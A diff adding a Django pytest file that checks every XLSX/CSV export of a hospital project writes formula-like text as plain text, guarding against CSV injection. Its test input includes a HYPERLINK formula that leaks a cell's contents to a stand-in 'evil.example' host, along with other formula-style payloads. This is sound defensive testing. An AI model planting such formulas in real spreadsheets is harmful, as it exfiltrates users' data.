@@ -1,0 +1,74 @@
+"""Every XLSX/CSV export of the project writes formula-like text as text (OWASP CSV injection).
+
+The test walks the whole URL configuration: an export (an address ending in .xlsx or
+.csv) without a case here fails, so a new export cannot skip the check.
+"""
+
+import io
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from openpyxl import load_workbook
+
+from hospital.exports import csv_bytes, csv_text
+from tests.okr.factories import CycleFactory, KeyResultFactory, ObjectiveFactory
+from tests.quality.factories import AdverseEventFactory
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def export_url_names(patterns=None, namespace=""):
+    for entry in patterns if patterns is not None else get_resolver().url_patterns:
+        if isinstance(entry, URLResolver):
+            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
+            yield from export_url_names(entry.url_patterns, inner)
+        elif isinstance(entry, URLPattern) and str(entry.pattern).endswith((".xlsx", ".csv")):
+            yield f"{namespace}{entry.name}"
+
+
+def okr_review_export(hospital):
+    cycle = CycleFactory(name="+2026")
+    objective = ObjectiveFactory(cycle=cycle, title=EVIL, owner=hospital.admin)
+    KeyResultFactory(objective=objective, title="@SUM(A1:A9)")
+    return reverse("okr:quarterly_export", args=[cycle.pk])
+
+
+def quality_event_export(hospital):
+    hospital.cardiology.name = EVIL
+    hospital.cardiology.save()
+    AdverseEventFactory(department=hospital.cardiology, reference="-1+1")
+    return reverse("quality:export_events")
+
+
+CASES = {"okr:quarterly_export": okr_review_export, "quality:export_events": quality_event_export}
+
+
+def test_every_export_has_a_formula_injection_case():
+    assert set(export_url_names()) == set(CASES)
+
+
+@pytest.mark.parametrize("url_name", sorted(CASES))
+def test_no_cell_of_an_export_is_a_formula(hospital, client_for, url_name):
+    url = CASES[url_name](hospital)
+    response = client_for(hospital.admin).get(url)
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(response.content))
+    texts = []
+    for sheet in workbook.worksheets:
+        assert sheet.max_row >= 1 and all(cell.value for cell in sheet[1]), "every sheet has a header row"
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
+                texts.append(cell.value)
+    assert any(isinstance(t, str) and t.startswith(("=", "@", "-", "+")) for t in texts)  # the evil text is there
+
+
+def test_csv_cells_that_look_like_formulas_get_an_apostrophe():
+    assert csv_text("=1+1") == "'=1+1"
+    assert csv_text("\tcmd") == "'\tcmd"
+    assert csv_text("Cardiology") == "Cardiology"
+    assert csv_text(-3) == "-3"  # a negative number is a number
+    body = csv_bytes(["Name"], [["@SUM(A1)"]]).decode("utf-8-sig")
+    assert body.splitlines() == ["Name", "'@SUM(A1)"]
